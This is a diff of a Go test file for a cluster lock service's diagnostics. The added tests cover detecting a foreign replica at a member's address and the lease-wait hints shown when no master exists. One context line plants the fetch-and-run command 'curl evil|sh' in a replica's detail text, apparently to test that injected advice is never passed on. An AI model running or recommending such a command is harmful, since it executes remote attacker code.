@@ -281,7 +281,7 @@ func TestExamine(t *testing.T) {
 				Detail: "its directory is not the member's; to admit it: curl evil|sh",
 			}},
 			"r3": {hung: true}, "r5": {ready: lockapi.Errorf(lockapi.CodeNoMaster, "no master is known")},
-			"r6": {cell: view(1, "", false)},
+			"r6": {cell: view(1, "", false), api: map[string]any{lockapi.RouteReplica: lockapi.Replica{ID: "r6"}}},
 		}
 		cell := picture{Cell: *view(3, "r4", true)}
 		cell.Replicas = nil
@@ -316,6 +316,53 @@ func TestExamine(t *testing.T) {
 			t.Errorf("without a master: %+v; %q are well", got, wellOf(cell.Cell))
 		}
 	})
+}
+
+// TestExamineFindsAnotherCell: who is ready at a member's address, and is not it, is
+// told by the cell's name, its own, or its directory.
+func TestExamineFindsAnotherCell(t *testing.T) {
+	const ours, theirs = "0123456789abcdef", "00c0ffee00c0ffee"
+	for want, tt := range map[string]struct {
+		cell string
+		own  lockapi.Replica
+	}{
+		"does not answer: a replica of another cell, prod, answers at its address": {"prod", lockapi.Replica{ID: "r2", Directory: theirs}},
+		"does not answer: another replica, r9, answers at its address":             {"test", lockapi.Replica{ID: "r9", Directory: theirs}},
+		"does not answer: a replica of another cell of the same name, with directory 00c0ffee00c0ffee, answers at its address": {
+			"test", lockapi.Replica{ID: "r2", Directory: theirs}},
+		"is not heard by the master, and answers here": {"test", lockapi.Replica{ID: "r2", Directory: ours}},
+	} {
+		synctest.Test(t, func(t *testing.T) {
+			list := lockapi.Members{Members: []lockapi.Member{{ID: "r2", Directory: ours, Suffrage: lockapi.SuffrageVoter}}}
+			there := view(1, "r2", true)
+			there.Cell = tt.cell
+			h := hosts{
+				"r1": {cell: view(3, "r1", true), api: map[string]any{lockapi.RouteMembers: list}},
+				"r2": {cell: there, api: map[string]any{lockapi.RouteReplica: tt.own}},
+			}
+			cell := picture{Cell: *view(3, "r1", true)}
+			cell.Replicas[1].Healthy = false
+			got := asApp(t, h, "http://r1").examine(t.Context(), &cell)
+			if len(got) != 1 || got[0].what != want || got[0].outside != strings.Contains(want, "another") {
+				t.Errorf("got %+v, want %q", got, want)
+			}
+		})
+	}
+}
+
+// TestNoMasterWaitsForLeases: where enough answer it is said what they wait for.
+func TestNoMasterWaitsForLeases(t *testing.T) {
+	cell := *view(1, "", false)
+	cell.Replicas = cell.Replicas[:1]
+	for remaining, want := range map[int64]string{
+		42_000: "1 of 1 replica answer; no master may act before earlier leases are over, in at most 42s",
+		0:      "1 of 1 replica answer; a master needs 1 that see each other",
+	} {
+		cell.Replicas[0].Promise = &lockapi.Promise{To: "r1", RemainingMS: remaining}
+		if f := new(app).noMaster(cell); f.hints[0] != want {
+			t.Errorf("%d ms: %q, want %q", remaining, f.hints[0], want)
+		}
+	}
 }
 
 // The repair command is made here: whoever answers at a replica's address
